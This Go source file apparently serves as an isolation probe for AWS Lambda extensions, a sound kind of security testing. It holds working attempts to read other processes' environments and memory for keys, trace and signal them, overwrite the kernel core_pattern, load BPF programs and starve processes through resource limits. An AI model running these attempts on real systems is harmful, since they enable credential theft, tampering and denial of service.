package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// onTheExtension are attempts to get into the extension's process.
var onTheExtension = []attempt{
	{"read the extension's environment", func(s scene) (string, error) {
		return keys(os.ReadFile(s.proc + "environ"))
	}},
	{"read it of one of its threads", func(s scene) (string, error) {
		tasks, err := filepath.Glob(s.proc + "task/[0-9]*")
		for _, task := range tasks {
			var got string
			if got, err = keys(os.ReadFile(task + "/environ")); err == nil {
				return got, nil
			}
		}
		return "", errors.Join(err, errors.New("none can be read"))
	}},
	{"read it by io_uring", func(s scene) (string, error) { return uringRead(s.proc + "environ") }},
	{"read it as root of a user namespace", func(s scene) (string, error) {
		cat := exec.Command("/bin/cat", s.proc+"environ")
		cat.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
			UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
			GidMappings: []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}},
		}
		return keys(cat.Output())
	}},
	{"read the extension's memory", func(s scene) (string, error) { return keys(memory(s.extension)) }},
	{"read it by process_vm_readv", func(s scene) (string, error) {
		var b [64]byte
		n, err := unix.ProcessVMReadv(s.extension, []unix.Iovec{local(b[:])}, []unix.RemoteIovec{{Base: text(), Len: 64}}, 0)
		return fmt.Sprintf("%d bytes", n), permitted(err)
	}},
	{"write it by process_vm_writev", func(s scene) (string, error) {
		b := [1]byte{}
		_, err := unix.ProcessVMWritev(s.extension, []unix.Iovec{local(b[:])}, []unix.RemoteIovec{{Base: text(), Len: 1}}, 0)
		return "allowed", permitted(err)
	}},
	{"read where its memory is", func(s scene) (string, error) { return some(os.ReadFile(s.proc + "maps")) }},
	{"trace the extension", func(s scene) (string, error) {
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		if err := unix.PtraceSeize(s.extension); err != nil {
			return "", err
		}
		return "seized", nil // and let go with this process
	}},
	{"list its descriptors", func(s scene) (string, error) {
		entries, err := os.ReadDir(s.proc + "fd")
		return fmt.Sprint(len(entries)), err
	}},
	{"take one of its descriptors", func(s scene) (string, error) {
		pidfd, err := unix.PidfdOpen(s.extension, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(pidfd)
		fd, err := unix.PidfdGetfd(pidfd, 1, 0)
		return fmt.Sprint(fd), err
	}},
	{"reach files through its root", func(s scene) (string, error) {
		return some(os.ReadFile(s.proc + "root/etc/passwd"))
	}},
	{"compare its descriptors with one's own", func(s scene) (string, error) {
		_, _, errno := syscall.Syscall6(unix.SYS_KCMP, uintptr(s.extension), uintptr(os.Getpid()), 0, 1, 1, 0)
		return "compared", number(errno)
	}},
	{"find its threads' locks", func(s scene) (string, error) {
		var head, size uintptr
		_, _, errno := syscall.Syscall(unix.SYS_GET_ROBUST_LIST, uintptr(s.extension), uintptr(unsafe.Pointer(&head)), uintptr(unsafe.Pointer(&size)))
		return "found", number(errno)
	}},
	{"learn on which nodes its pages are", func(s scene) (string, error) {
		page, status := text()&^4095, int32(0)
		_, _, errno := syscall.Syscall6(unix.SYS_MOVE_PAGES, uintptr(s.extension), 1, uintptr(unsafe.Pointer(&page)), 0, uintptr(unsafe.Pointer(&status)), 0)
		return fmt.Sprint(status), number(errno)
	}},
	{"have its memory written to disk", func(s scene) (string, error) {
		pidfd, err := unix.PidfdOpen(s.extension, 0)
		if err != nil {
			return "", err
		}
		defer unix.Close(pidfd)
		v := unix.RemoteIovec{Base: text() &^ 4095, Len: 4096}
		_, _, errno := syscall.Syscall6(unix.SYS_PROCESS_MADVISE, uintptr(pidfd), uintptr(unsafe.Pointer(&v)), 1, unix.MADV_PAGEOUT, 0, 0)
		return "advised", number(errno)
	}},
	{"count what it executes", func(s scene) (string, error) {
		fd, err := unix.PerfEventOpen(&unix.PerfEventAttr{
			Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_TASK_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{})), Bits: unix.PerfBitExcludeKernel,
		}, s.extension, -1, -1, 0)
		return fmt.Sprint(fd), err
	}},
	{"have it dump core", func(s scene) (string, error) {
		limit := unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY}
		return "allowed", unix.Prlimit(s.extension, unix.RLIMIT_CORE, &limit, nil)
	}},
	{"choose what a core has in it", func(s scene) (string, error) {
		return "chosen", os.WriteFile(s.proc+"coredump_filter", []byte("0xff"), 0)
	}},
	{"offer it to the OOM killer", func(s scene) (string, error) {
		return "offered", os.WriteFile(s.proc+"oom_score_adj", []byte("1000"), 0)
	}},
	{"read what else /proc has of it", func(s scene) (string, error) {
		// All that only those may read who may trace; the rest of it is open
		// to every user.
		for _, name := range []string{"auxv", "syscall", "stack", "personality", "pagemap", "io", "smaps", "smaps_rollup", "numa_maps", "map_files", "fdinfo", "task/" + fmt.Sprint(s.extension) + "/mem"} {
			file, err := os.Open(s.proc + name)
			if err != nil {
				continue
			}
			defer file.Close()
			if entries, err := file.Readdirnames(1); err == nil && len(entries) > 0 {
				return name + "/" + entries[0], nil
			}
			if n, err := file.Read(make([]byte, 64)); err == nil && n > 0 {
				return name, nil
			}
		}
		for _, name := range []string{"cwd", "exe", "root", "ns/net", "fd/0"} {
			if link, err := os.Readlink(s.proc + name); err == nil {
				return link, nil
			}
		}
		return "", errors.New("no more than any user may")
	}},
	{"forget which of its pages were used", func(s scene) (string, error) {
		return "forgotten", os.WriteFile(s.proc+"clear_refs", []byte("1"), 0)
	}},
	{"read its program", func(s scene) (string, error) { return some(os.ReadFile("/opt/extensions/remit")) }},
	{"write its program", func(s scene) (string, error) {
		f, err := os.OpenFile("/opt/extensions/remit", os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		return "opened", err
	}},
	{"signal the extension", func(s scene) (string, error) {
		err := syscall.Kill(s.extension, 0)
		pidfd, e := unix.PidfdOpen(s.extension, 0)
		if e == nil && err != nil {
			err = unix.PidfdSendSignal(pidfd, 0, nil, 0)
			unix.Close(pidfd)
		}
		if err != nil {
			err = unix.Tgkill(s.extension, s.extension, 0)
		}
		return "it may be killed and stopped", err
	}},
	{"signal it as a descriptor's owner", func(s scene) (string, error) {
		// The kernel sends what fcntl(2) asks for, F_SETOWN and F_SETSIG.
		if err := poke(s.extension, syscall.SIGSTOP); err != nil {
			return "", err
		}
		state := ""
		for range 20 {
			if state = statusOf(s.extension, "State"); strings.HasPrefix(state, "T") {
				return "stopped", poke(s.extension, syscall.SIGCONT)
			}
			time.Sleep(10 * time.Millisecond)
		}
		return "", errors.New("its state is " + state)
	}},
}

// poke has the kernel tell a process, by a signal of one's own choice, that there
// is something to read.
func poke(pid int, signal syscall.Signal) error {
	r, w, err := os.Pipe()
	if err != nil {
		return err
	}
	defer r.Close()
	defer w.Close()
	fd := r.Fd()
	for _, set := range [][2]int{{unix.F_SETOWN, pid}, {unix.F_SETSIG, int(signal)}, {unix.F_SETFL, unix.O_ASYNC | unix.O_NONBLOCK}} {
		if _, err := unix.FcntlInt(fd, set[0], set[1]); err != nil {
			return err
		}
	}
	_, err = w.Write([]byte("x"))
	return err
}

// onTheKernel are attempts to have the kernel do what the extension's user may
// not.
var onTheKernel = []attempt{
	{"have cores written by a program of one's own", write("/proc/sys/kernel/core_pattern", "|/tmp/core")},
	{"have closed processes dump core", write("/proc/sys/fs/suid_dumpable", "1")},
	{"mount something over the layer", func(scene) (string, error) {
		return "mounted", syscall.Mount("/tmp", "/opt", "", syscall.MS_BIND, "")
	}},
	{"listen to the loopback", func(scene) (string, error) {
		fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0x0300)
		if err == nil {
			syscall.Close(fd)
		}
		return "opened", err
	}},
	{"load a program into the kernel", func(scene) (string, error) {
		// return 0, as a filter of sockets
		text := [...]uint64{0xb7, 0x95}
		license := []byte("GPL\x00")
		attr := struct {
			kind, n    uint32
			text, lice uint64
			_          [14]uint64
		}{kind: 1, n: 2, text: uint64(uintptr(unsafe.Pointer(&text))), lice: uint64(uintptr(unsafe.Pointer(&license[0])))}
		fd, _, errno := syscall.Syscall(unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
		runtime.KeepAlive(text)
		return fmt.Sprint(fd), number(errno)
	}},
}

// onOthers are attempts to get the keys where others have them.
var onOthers = []attempt{
	{"find the keys in what the function was given", func(scene) (string, error) {
		for pid := os.Getpid(); pid > 1; {
			b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
			if err != nil {
				break
			}
			if got, err := keys(b, nil); err == nil {
				return got, nil
			}
			fmt.Sscan(statusOf(pid, "PPid"), &pid)
			if !strings.Contains(processes()[pid], "/var/lang") {
				break
			}
		}
		return "", errors.New("no key in it")
	}},
	{"read the keys of Lambda's own process", func(s scene) (string, error) { return steal(s.platform) }},
	{"signal Lambda's own process", func(s scene) (string, error) { return "it may be killed", syscall.Kill(s.platform, 0) }},
	{"trace Lambda's own process", func(s scene) (string, error) {
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		return "seized", unix.PtraceSeize(s.platform)
	}},
	{"read the keys of another extension", func(s scene) (string, error) { return steal(s.neighbour) }},
	{"read the keys of another user's process", func(s scene) (string, error) {
		err := errors.New("there is none")
		for _, pid := range s.strangers {
			var got string
			if got, err = steal(pid); err == nil {
				return got, nil
			}
		}
		return "", err
	}},
}

// onLimits are what the kernel lets one process of a user do to another, and no
// measure forbids. Who does it is the worse for it: calls fail, or are slow.
var onLimits = []attempt{
	{"have the extension scheduled last", func(s scene) (string, error) {
		return "scheduled", syscall.Setpriority(syscall.PRIO_PROCESS, s.extension, 19)
	}},
	{"have the extension on one processor", func(s scene) (string, error) {
		var one unix.CPUSet
		one.Set(0)
		return "set", unix.SchedSetaffinity(s.extension, &one)
	}},
	{"have the extension run when nobody else does", func(s scene) (string, error) {
		param := [1]int32{}
		_, _, errno := syscall.Syscall(unix.SYS_SCHED_SETSCHEDULER, uintptr(s.extension), 5 /* SCHED_IDLE */, uintptr(unsafe.Pointer(&param)))
		return "set", number(errno)
	}},
	{"take the extension's descriptors", func(s scene) (string, error) {
		return "taken", unix.Prlimit(s.extension, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 3, Max: 3}, nil)
	}},
	{"end the extension by its limits", func(s scene) (string, error) {
		// No more memory, and then work for it.
		if err := unix.Prlimit(s.extension, unix.RLIMIT_AS, &unix.Rlimit{Cur: 1 << 20, Max: 1 << 20}, nil); err != nil {
			return "", err
		}
		for range 5 {
			haveItRead()
			if status := statusOf(s.extension, "State"); status == "" || strings.HasPrefix(status, "Z") {
				return "it has ended", nil
			}
		}
		return "", errors.New("it lives on")
	}},
}

func write(path, value string) func(scene) (string, error) {
	return func(scene) (string, error) { return "written", os.WriteFile(path, []byte(value), 0) }
}

// text is where a Go program's own text lies.
func text() uintptr {
	if runtime.GOARCH == "arm64" {
		return 0x11000
	}
	return 0x401000
}

func local(b []byte) unix.Iovec {
	v := unix.Iovec{Base: &b[0]}
	v.SetLen(len(b))
	return v
}

// permitted takes an address that is not there, or not to be written, for what
// a process hears who may ask.
func permitted(err error) error {
	if errors.Is(err, syscall.EFAULT) {
		return nil
	}
	return err
}

func some(b []byte, err error) (string, error) {
	return fmt.Sprintf("%d bytes", len(b)), err
}

func number(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}
